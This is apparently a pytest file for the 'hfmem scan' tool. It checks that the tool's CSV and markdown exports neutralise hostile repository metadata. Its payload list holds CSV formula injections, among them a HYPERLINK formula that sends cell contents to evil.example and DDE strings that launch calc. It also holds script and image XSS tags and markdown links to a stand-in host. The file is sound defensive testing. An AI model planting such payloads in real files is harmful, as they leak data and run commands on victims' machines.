"""Hostile text in `hfmem scan --csv` and `--markdown`: a repo's `model_type` and the list's lines carry formula
prefixes, HTML, mentions, references, pipes, newlines, backticks and links. Every CSV text cell is neutralised as
OWASP recommends (numbers stay numbers) and every markdown cell is escaped as the PR comment escapes, checked with a
real CommonMark renderer (markdown-it-py, which rich already depends on). The scan is real, against the test Hub."""

from __future__ import annotations

import csv
import io
import json
import struct
from pathlib import Path

from markdown_it import MarkdownIt

from hfmem.cli.main import run
from hfmem.scan.export import CSV_COLUMNS, to_csv
from hfmem.text import FORMULA_PREFIXES, csv_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '<img src="http://evil.example/x.png" onerror=alert(1)>',
            "@everyone look", "fixes #1", "a | b | c", "line\nbreak", "`code` and ``` fences", "[link](http://evil.example)",
            "![img](http://evil.example/x.png)", "<script>alert(1)</script>", "**bold** _it_ ~~s~~"]
TINY = {"architectures": ["HostileForCausalLM"], "hidden_size": 64, "intermediate_size": 128,
        "num_hidden_layers": 2, "num_attention_heads": 4, "num_key_value_heads": 2, "vocab_size": 256}


def header() -> bytes:
    """A safetensors file with an embedding and two linear layers a layer (its data zeros)."""
    shapes = {"model.embed_tokens.weight": [256, 64]}
    for layer in range(2):
        shapes |= {f"model.layers.{layer}.self_attn.q_proj.weight": [64, 64],
                   f"model.layers.{layer}.mlp.up_proj.weight": [128, 64]}
    table, offset = {}, 0
    for name, shape in shapes.items():
        size = 4 * shape[0] * shape[1]
        table[name] = {"dtype": "F32", "shape": shape, "data_offsets": [offset, offset + size]}
        offset += size
    raw = json.dumps(table).encode()
    return struct.pack("<Q", len(raw)) + raw + bytes(offset)


def hostile_scan(hub, tmp_path: Path) -> tuple[list[list[str]], str]:
    """A scan of repos whose model_type is each payload, and of list lines that are payloads: its CSV and markdown."""
    lines = []
    for number, payload in enumerate(PAYLOADS):
        repo = f"hostile/type-{number}"
        hub.add_repo(repo, {"config.json": json.dumps(TINY | {"model_type": payload}).encode(),
                            "model.safetensors": header()})
        lines += [repo, payload.replace("\n", " ").replace("#", "")]
    (tmp_path / "models.txt").write_text("\n".join(lines) + "\n")
    code = run(["scan", str(tmp_path / "models.txt"), "-o", str(tmp_path / "out.jsonl"), "--gpu", "rtx4090",
                "--csv", str(tmp_path / "out.csv"), "--markdown", str(tmp_path / "out.md")])
    assert code == 1  # the payload lines are not model references
    with (tmp_path / "out.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + len({line.strip() for line in lines if line.strip()})  # no cell split a row
    return rows, (tmp_path / "out.md").read_text()


def test_csv_cells_never_start_a_formula(hub, tmp_path):
    rows, _ = hostile_scan(hub, tmp_path)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    types = {row[CSV_COLUMNS.index("model_type")] for row in rows[1:] if row[1] == "ok"}
    assert types == {"'" + p if p.startswith(FORMULA_PREFIXES) else p for p in PAYLOADS}  # else as written
    models = {row[0] for row in rows[1:] if row[1] == "error"}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in models


def test_csv_numbers_stay_numbers():
    """Only text is neutralised: a negative number (a headroom, a difference) reads back as that number."""
    row = dict.fromkeys(CSV_COLUMNS) | {"model": "-x", "parameters": -1_024, "full_gib_per_gpu": -3.5}
    written = next(csv.DictReader(io.StringIO(to_csv([row]))))
    assert (written["model"], written["parameters"], written["full_gib_per_gpu"]) == ("'-x", "-1024", "-3.5")
    assert to_csv([row]).splitlines()[1].startswith('"\'-x",')  # text quoted, numbers bare
    assert ",-1024," in to_csv([row]) and ",-3.5," in to_csv([row])
    assert csv_cell(-2) == -2 and csv_cell(0.5) == 0.5 and csv_cell("2-1") == "2-1"


def test_markdown_cells_render_as_text(hub, tmp_path):
    _, text = hostile_scan(hub, tmp_path)
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in html and "<script" not in html and "<a " not in html and "<code>" not in html
    assert "<strong>" not in html and "<em>" not in html
    assert "@everyone" not in text and "#1" not in text.replace("#&#8203;1", "")
    tables = [t for t in html.split("<table>")[1:]]
    assert len(tables) == 2
    for table, columns in zip(tables, (7, 3), strict=True):
        rows = table.split("<tr>")[1:]
        assert all(row.count("<td") in (0, columns) for row in rows), table
    body = [line for line in text.splitlines() if line.startswith("| ") and "hostile/type\\-" in line]
    assert len(body) == len(PAYLOADS)  # one line a model: the newline payload did not split its row
